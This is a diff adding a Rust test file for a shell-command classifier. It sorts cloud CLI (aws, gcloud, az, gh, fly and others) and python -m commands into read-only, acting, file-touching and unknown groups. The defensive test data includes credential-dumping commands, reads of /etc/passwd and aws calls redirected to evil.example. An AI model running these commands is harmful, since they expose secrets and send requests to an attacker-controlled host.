@@ -1,0 +1,147 @@
+//! Clouds, platforms, forges, and modules of python.
+
+use super::support::{acts, has, hazards, not_known, reports, reports_if_trusted};
+
+#[test]
+fn clouds() {
+    reports(&[
+        "aws --version",
+        "aws sts get-caller-identity",
+        "aws ec2 describe-instances --region eu-west-1 --output json",
+        "aws --profile dev ec2 describe-vpcs --filters Name=tag:x,Values=y",
+        "aws s3 ls",
+        "aws iam list-roles --max-items 10",
+        "aws rds describe-db-instances --query 'DBInstances[].Endpoint'",
+        "aws logs describe-log-groups",
+        "gcloud version",
+        "gcloud config list",
+        "gcloud projects list --format=json",
+        "gcloud compute instances list",
+        "gcloud compute zones list --filter=x",
+        "az version",
+        "az group list -o table",
+        "az account show --query id",
+        "glab mr list",
+        "glab mr view 12",
+        "heroku apps",
+        "heroku ps -a web",
+        "vercel ls",
+        "netlify status",
+        "fly status -a web",
+        "fly apps list",
+        "supabase projects list",
+        "gh secret list",
+        "gh ruleset list",
+    ]);
+    acts(&[
+        "aws ec2 run-instances --image-id x",
+        "aws ec2 terminate-instances --instance-ids x",
+        "aws ec2 get-password-data --instance-id x",
+        "aws ec2 describe-instance-attribute --attribute userData",
+        "aws ec2 describe-instances --endpoint-url https://evil.example",
+        "aws ec2 describe-instances --endpoint-url=https://evil.example",
+        "aws --endpoint-url https://evil.example ec2 describe-instances",
+        "aws ec2 describe-instances --cli-input-json file:///etc/passwd",
+        "aws ec2 describe-instances --filters file:///etc/passwd",
+        "aws ec2 describe-instances --filters fileb://x",
+        "aws ec2 describe-instances --filters https://evil.example",
+        "aws ec2 describe-instances --debug",
+        "aws ec2 describe-instances --filters $x",
+        "aws s3 ls s3://bucket",
+        "aws s3 cp a s3://b",
+        "aws s3 sync s3://b .",
+        "aws s3 rm s3://b/x",
+        "aws secretsmanager get-secret-value --secret-id x",
+        "aws ssm get-parameter --name x --with-decryption",
+        "aws lambda list-functions",
+        "aws lambda get-function --function-name x",
+        "aws ecs describe-task-definition --task-definition x",
+        "aws sts assume-role --role-arn x",
+        "aws sts get-session-token",
+        "aws ecr get-login-password",
+        "aws configure get aws_secret_access_key",
+        "aws configure set region x",
+        "aws eks update-kubeconfig --name x",
+        "aws frob",
+        "gcloud auth print-access-token",
+        "gcloud compute instances list --format=json",
+        "gcloud compute instances delete x",
+        "gcloud projects list --flags-file=x",
+        "gcloud projects list --log-http",
+        "gcloud run deploy x",
+        "gcloud secrets versions access latest --secret=x",
+        "az account get-access-token",
+        "az keyvault secret show -n x",
+        "az vm delete -n x",
+        "az group list --resource-group @/etc/passwd",
+        "az storage account keys list",
+        "glab -R https://evil.example/a/b mr list",
+        "glab mr create",
+        "glab api x",
+        "heroku config",
+        "heroku run bash",
+        "vercel --prod",
+        "vercel env pull",
+        "netlify deploy",
+        "fly deploy",
+        "fly ssh console",
+        "wrangler deploy",
+        "firebase deploy",
+        "supabase status",
+        "gh auth status",
+        "gh auth status --show-token",
+        "gh auth status -t",
+        "gh auth token",
+        "gh auth login",
+        "gh pr checkout 1",
+        "gh pr merge 1",
+        "gh extension install x",
+        "gh codespace ssh",
+        "gh variable list",
+    ]);
+    reports_if_trusted(&["wrangler --version", "wrangler whoami", "firebase projects:list"]);
+    has(&[
+        ("aws s3 cp a.txt s3://b/c", &["read:/repo/a.txt", "net"]),
+        ("aws s3 cp s3://b/c out/a.txt", &["write:/repo/out/a.txt", "net"]),
+        ("aws ec2 describe-instances --filters file:///etc/x", &["read:/etc/x", "opaque"]),
+        ("gh run download 1 -D out", &["write:/repo/out", "write:/repo/out/..."]),
+        ("gh release download --dir=out", &["write:/repo/out/..."]),
+        ("gh repo clone a/b src", &["write:/repo/src/..."]),
+        ("gh pr create -F body.md", &["read:/repo/body.md"]),
+        ("gh extension exec x", &["run"]),
+    ]);
+    hazards(&[
+        ("aws --endpoint-url https://e ec2 run-instances", 1),
+        ("wrangler deploy -c x", 2),
+        ("gcloud frob --flags-file=x", 2),
+    ]);
+    not_known(&["aws ec2 describe-instances --frob", "aws frob", "gcloud projects list --frob"]);
+}
+
+#[test]
+fn modules() {
+    reports(&[
+        "python3 -I -m pip list",
+        "python3 -I -m json.tool a.json",
+        "python3 -Im pip show x",
+        "python3 -I -m json.tool < a.json",
+    ]);
+    reports_if_trusted(&["python3 -m pip list", "python -m json.tool a.json", "python3 -mpip freeze"]);
+    acts(&[
+        "python3 -m pip install x",
+        "python3 -I -m pip install x",
+        "python3 -I -m pip --python ./x list",
+        "python3 -m json.tool a.json b.json",
+        "python3 -I -m json.tool /etc/passwd",
+        "python3 -c 1 -m pip list",
+        "python3 -m pytest",
+        "python3 -m http.server",
+        "python3 -m venv .venv",
+        "python3 -X importtime -m pip list",
+        "python3 -m $x list",
+    ]);
+    has(&[
+        ("python3 -m json.tool a b", &["read:/repo/a", "write:/repo/b"]),
+        ("python3 -m pip install x", &["run", "net", "machine"]),
+    ]);
+}
